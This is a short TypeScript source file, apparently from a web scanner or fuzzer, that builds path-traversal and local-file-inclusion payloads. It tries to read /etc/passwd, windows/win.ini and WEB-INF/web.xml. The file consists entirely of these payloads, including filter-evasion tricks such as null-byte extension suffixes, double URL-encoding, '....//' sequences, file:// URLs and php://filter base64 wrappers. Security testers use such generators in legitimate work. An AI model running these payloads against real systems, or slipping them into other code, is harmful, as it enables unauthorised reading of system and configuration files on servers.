const up = '../'.repeat(10);

/** The last part of the usual value, to satisfy filters that look at its ending. */
const endingOf = (usual: string) => /(\.[a-z0-9]{1,5})$/i.exec(usual)?.[1] ?? '';

/** The folder in front of the usual value, to satisfy filters that look at its beginning. */
const folderOf = (usual: string) => /^(.{1,200}\/)[^/]*$/.exec(usual)?.[1] ?? '';

/** The one that finds most, for any input at all: a full path by itself, and a way up behind a folder. */
export const common: readonly string[] = [`/${up}etc/passwd`];

/** Ways around filters, for inputs that look as if they named a file; the likeliest first. */
export function thorough(usual: string): string[] {
  const ending = endingOf(usual);
  const folder = folderOf(usual);
  const name = usual.replace(/\.[a-z0-9]{1,5}$/i, '').slice(0, 100) || 'index';
  return [
    `${up}etc/passwd`,
    '/etc/passwd',
    ...(folder === '' ? [] : [`${folder}${up}etc/passwd`]),
    `${up}etc/passwd\0${ending}`,
    ...(ending === '' ? [] : [`/etc/passwd\0${ending}`]),
    `${'....//'.repeat(10)}etc/passwd`,
    'file:///etc/passwd',
    `${up.replaceAll('/', '%2f')}etc%2fpasswd`,
    `${'..%2f'.repeat(10)}etc%2fpasswd`.replaceAll('%', '%25'),
    `${up}windows/win.ini`,
    `${'..\\'.repeat(10)}windows\\win.ini`,
    'c:\\windows\\win.ini',
    'c:/windows/win.ini',
    '/WEB-INF/web.xml',
    'WEB-INF/web.xml',
    '../WEB-INF/web.xml',
    '../../WEB-INF/web.xml',
    `php://filter/convert.base64-encode/resource=${name}`,
    `php://filter/convert.base64-encode/resource=${usual.slice(0, 100) || 'index.php'}`,
  ];
}
